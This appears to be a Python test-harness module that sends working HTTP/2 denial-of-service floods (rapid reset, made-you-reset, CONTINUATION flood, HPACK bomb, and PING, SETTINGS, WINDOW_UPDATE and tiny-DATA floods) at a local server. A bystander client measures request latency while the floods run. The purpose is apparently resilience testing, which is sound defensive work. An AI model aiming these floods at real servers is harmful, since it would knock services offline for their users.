"""Clients of HTTP/2 that send what costs them nothing, in a process of their own, and one that does not.

python -m harness.http2_floods NAME PORT SECONDS     floods, and then one line: how long each connection lived
python -m harness.http2_floods bystander PORT SECONDS  asks 100 times a second, and then one line: each latency
"""

from __future__ import annotations

import itertools
import json
import os
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

from harness.processes import HOST

FLOODERS = 4
"""Connections at a time: each is opened anew when it is cut off."""
RATE = 100
SIZE = 16 * 1024
PATH = "/segment"

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, UPDATE, CONTINUATION, UNKNOWN = 0, 1, 2, 3, 4, 6, 8, 9, 99
END_STREAM, END_HEADERS = 1, 4
# Nothing is indexed: the head may be sent again as it is.
HEAD = b"\x82\x87\x41\x09localhost" + bytes([0x04, len(PATH)]) + PATH.encode()
POST = b"\x83" + HEAD[1:]


def frame(kind: int, stream: int, payload: bytes = b"", flags: int = 0) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def asked(stream: int, flags: int = END_STREAM) -> bytes:
    return frame(HEADERS, stream, HEAD if flags & END_STREAM else POST, END_HEADERS | flags)


def _repeated(*frames: bytes, begin: bytes = b"") -> Callable[[], Iterator[bytes]]:
    def parts() -> Iterator[bytes]:
        yield begin
        yield from itertools.repeat(b"".join(frames) * 100)

    return parts


def _streams(each: Callable[[int], bytes]) -> Callable[[], Iterator[bytes]]:
    def parts() -> Iterator[bytes]:
        for first in range(1, 1 << 30, 20):
            yield b"".join(each(stream) for stream in range(first, first + 20, 2))

    return parts


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid reset": _streams(lambda stream: asked(stream) + frame(RESET, stream, b"\0\0\0\x08")),
    "made-you-reset": _streams(
        lambda stream: asked(stream, 0) + frame(UPDATE, stream, struct.pack(">I", (1 << 31) - 1))
    ),
    "CONTINUATION": _repeated(frame(CONTINUATION, 1), begin=frame(HEADERS, 1, HEAD, END_STREAM)),
    "HPACK bomb": _streams(
        # A field of 4 KB that is indexed once, and named by one byte after that.
        lambda stream: frame(
            HEADERS,
            stream,
            HEAD + (b"\x40\x01x\x7f\xbd\x1d" + b"y" * 3900 if stream == 1 else b"\xbe" * 4000),
            END_HEADERS | END_STREAM,
        )
    ),
    "PING": _repeated(frame(PING, 0, bytes(8))),
    "SETTINGS": _repeated(frame(SETTINGS, 0)),
    "PRIORITY": _repeated(frame(PRIORITY, 1, bytes(5))),
    "WINDOW_UPDATE": _repeated(frame(UPDATE, 0, b"\0\0\0\1")),
    "window stall": _repeated(
        frame(UPDATE, 1, b"\0\0\0\1"),
        begin=frame(SETTINGS, 0, b"\0\x04\0\0\0\0") + asked(1),
    ),
    "empty DATA": _repeated(frame(DATA, 1), begin=asked(1, 0)),
    "tiny DATA": _repeated(frame(DATA, 1, b"x"), begin=asked(1, 0)),
    "unknown frames": _repeated(frame(UNKNOWN, 0, b"x")),
}


def connect(port: int) -> ssl.SSLSocket:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    plain = socket.create_connection((HOST, port), timeout=10)
    plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    secured = context.wrap_socket(plain, server_hostname="localhost")
    secured.sendall(PREFACE + frame(SETTINGS, 0))
    return secured


def flood(name: str, port: int, seconds: float) -> list[float]:
    """Attack until the time is over. How long each connection was let send, in seconds; the last is not counted."""
    lives: list[float] = []
    end = time.monotonic() + seconds

    def attack() -> None:
        while time.monotonic() < end:
            with suppress(OSError), connect(port) as connection:
                begun = time.monotonic()
                with suppress(OSError):
                    for part in FLOODS[name]():
                        connection.sendall(part)
                        if time.monotonic() > end:
                            return
                lives.append(time.monotonic() - begun)

    threads = [threading.Thread(target=attack) for _ in range(FLOODERS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return lives


def bystand(port: int, seconds: float) -> list[float]:
    """Latencies in seconds, each from when the request was due."""
    latencies = []
    with connect(port) as connection:
        received = bytearray()
        start = time.monotonic()
        for number in range(int(seconds * RATE)):
            due = start + number / RATE
            time.sleep(max(0.0, due - time.monotonic()))
            stream = 2 * number + 1
            connection.sendall(asked(stream))
            length = 0
            while True:
                while len(received) < 9 or len(received) < 9 + int.from_bytes(received[:3], "big"):
                    data = connection.recv(65_536)
                    if not data:
                        raise ConnectionError("the bystander was cut off")
                    received += data
                size, kind, flags = int.from_bytes(received[:3], "big"), received[3], received[4]
                of = int.from_bytes(received[5:9], "big")
                del received[: 9 + size]
                if of != stream:
                    continue
                length += size if kind == DATA else 0
                if flags & END_STREAM and kind in (DATA, HEADERS):
                    break
            if length != SIZE:
                raise ConnectionError(f"the bystander got {length} bytes of {SIZE}")
            latencies.append(time.monotonic() - due)
            connection.sendall(frame(UPDATE, 0, struct.pack(">I", SIZE)))
    return latencies


def main() -> None:
    name, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    if name == "bystander":
        result = bystand(port, seconds)
    else:
        # Where both have work, the bystander goes first.
        os.nice(19)
        result = flood(name, port, seconds)
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
